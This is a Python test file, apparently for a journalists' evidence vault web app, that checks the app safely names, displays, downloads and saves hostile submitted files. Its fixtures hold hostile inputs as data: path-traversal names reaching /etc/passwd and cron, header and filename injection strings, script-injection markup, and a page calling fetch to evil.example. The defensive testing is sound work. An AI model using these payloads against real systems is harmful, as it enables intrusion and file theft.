# SPDX-License-Identifier: AGPL-3.0-or-later
"""
DESIGN §2: somebody sends hostile files, and hostile words.

Nothing is opened in the vault's pages: a file is named so that nothing in its name is hidden, handed out only as a download that no browser
shows, only after its last byte verified, and saved under a name that leads nowhere. What it is opened with is the reviewer's choice; the page says so.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from flask.testing import FlaskClient

from journalist_app.vault.app import create_app
from journalist_app.vault.place import Place
from tests.journeys.world import PASSPHRASE, World
from tests.source_app.window import Window

NAMES = (
    "../../../etc/cron.d/x",
    "..\\..\\x.exe",
    "invoice\u202efdp.exe",
    'a"; filename="b.html',
    "line\r\nX-Injected: yes",
    "\x00hidden.sh",
    "<script>alert(1)</script>.html",
    "证据.html",
    "." * 400,
    "",
)
PAGE = b"<html><script>fetch('http://evil.example/')</script>"


class Reviewer:
    """A browser at seat 1's vault."""

    def __init__(self, world: World) -> None:
        self.saved = world.folder / "saved"
        place = Place(
            folder=world.folder / "vault-1",
            sticks=(world.stick,),
            port=8_473,
            save=self.saved,
            clock=world.calendar.today,
        )
        self.app = create_app(place, "t" * 43)
        self.base = f"http://{place.host}"
        self.client: FlaskClient = self.app.test_client()
        self.client.get(f"/?token={'t' * 43}", base_url=self.base)
        found = re.search(r'name="csrf" value="([0-9a-f]{64})"', self.client.get("/unlock", base_url=self.base).text)
        assert found is not None
        self.csrf = found[1]
        assert self.post("/unlock", passphrase=PASSPHRASE).status_code == 303

    def get(self, address: str):
        """Open an address."""
        return self.client.get(address, base_url=self.base)

    def post(self, address: str, **fields: str):
        """Send a form."""
        return self.client.post(address, data={"csrf": self.csrf, **fields}, base_url=self.base)


@pytest.fixture
def value(world: World) -> bytes:
    """The thread of somebody who sent all of them, imported."""
    window = Window(world)
    words = window.write(
        "<script>alert('words')</script> \u202e\x07 & <b>bold</b>", *((name, PAGE + name.encode()) for name in NAMES)
    )
    world.carry(1)
    return world.thread_value(words)


@pytest.fixture
def reviewer(world: World, value: bytes) -> Iterator[Reviewer]:
    """Somebody who looks at it."""
    made = Reviewer(world)
    yield made
    made.app.extensions["door"].lock()


def test_names_are_kept_as_they_came_and_shown_so_that_nothing_hides(
    world: World, value: bytes, reviewer: Reviewer
) -> None:
    """Evidence unchanged in the vault; controls and overrides spelled out on the page, markup escaped."""
    kept = {one.row.name for one in world.thread(1, value).items if one.row.kind == "file"}
    assert {name for name in NAMES if 0 < len(name) < 400} <= kept
    page = reviewer.get(f"/threads/{value.hex()}").text
    assert "<script>" not in page
    assert "<b>bold" not in page
    assert not re.search("[\u202a-\u202e\u2066-\u2069\x00\x07]", page)
    assert "invoice⟦U+202E⟧fdp.exe" in page
    assert "line⟦U+000D⟧⟦U+000A⟧X-Injected: yes" in page


def test_a_download_is_bytes_to_every_browser(reviewer: Reviewer, value: bytes) -> None:
    """An attachment of no type, never sniffed, under a policy that runs nothing; and no name breaks out of its header."""
    downloads = re.findall(r'href="(/items/[0-9a-f]{32}/download)"', reviewer.get(f"/threads/{value.hex()}").text)
    assert len(set(downloads)) >= len(NAMES) - 1
    for address in downloads:
        answer = reviewer.get(address)
        assert answer.status_code == 200
        assert answer.data.startswith(PAGE)
        assert answer.headers["Content-Type"] == "application/octet-stream"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Content-Security-Policy"].startswith("default-src 'none'")
        assert "X-Injected" not in answer.headers
        said = answer.headers["Content-Disposition"]
        assert re.fullmatch(r"attachment; filename=\"[\w.-]+\"; filename\*=UTF-8''[\w.%~-]+", said, re.ASCII), said


def test_a_saved_file_lies_in_its_folder_under_its_items_id(reviewer: Reviewer, value: bytes) -> None:
    """No name leads out of the folder, hides, or takes the place of another."""
    page = reviewer.get(f"/threads/{value.hex()}").text
    for address in sorted(set(re.findall(r'action="(/items/[0-9a-f]{32}/save)"', page))):
        assert reviewer.post(address).status_code == 200
    files = sorted(reviewer.saved.rglob("*"))
    assert len(files) >= len(NAMES) - 1
    for path in files:
        assert path.parent == reviewer.saved
        assert path.is_file()
        assert re.match(r"[0-9a-f]{8}-[^.\x00/\\\u202e]", path.name), path.name
        assert path.read_bytes().startswith(PAGE)
        assert path.stat().st_mode & 0o177 == 0


def test_the_page_says_that_opening_is_not_safe_yet(reviewer: Reviewer, value: bytes) -> None:
    """There is no sandbox in this version, and nothing pretends there is."""
    said = reviewer.get(f"/threads/{value.hex()}").text.lower()
    assert "saf" in said
    assert "open" in said
    assert "<img" not in said
    assert "<iframe" not in said


@pytest.mark.parametrize("item", ["../vault.db", "..%2f..%2fvault.db", "0" * 31, "G" * 32, "0" * 32])
def test_no_other_file_of_the_laptop_is_handed_out(reviewer: Reviewer, item: str) -> None:
    """An address names an item by its id, or nothing."""
    for act in ("download", "save"):
        assert reviewer.get(f"/items/{item}/{act}").status_code in {404, 405}
        assert reviewer.post(f"/items/{item}/{act}").status_code in {404, 405}


@pytest.mark.parametrize("name", ["../vault-1/vault.db", "/etc/passwd", "", ".", "outbox-1-00000001.tar"])
def test_no_other_file_than_a_listed_batch_is_imported(world: World, reviewer: Reviewer, name: str) -> None:
    """A form that names another file than those on the stick is refused."""
    assert reviewer.post("/import", stick="0", file=name).status_code == 404
    (world.stick / "link.tar").symlink_to(Path("/etc/passwd"))
    assert reviewer.post("/import", stick="0", file="link.tar").status_code == 404
